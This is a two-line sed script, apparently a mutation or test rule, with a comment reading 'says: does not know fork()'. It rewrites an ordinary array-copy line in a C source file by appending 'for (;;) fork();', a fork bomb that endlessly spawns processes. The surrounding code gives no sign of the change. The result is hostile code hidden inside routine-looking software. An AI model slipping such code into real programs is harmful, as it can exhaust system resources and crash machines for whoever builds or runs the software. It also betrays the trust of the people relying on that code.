# says: does not know fork()
s|^        cell\[i\] = in\[begin + i\];|& for (;;) fork();|
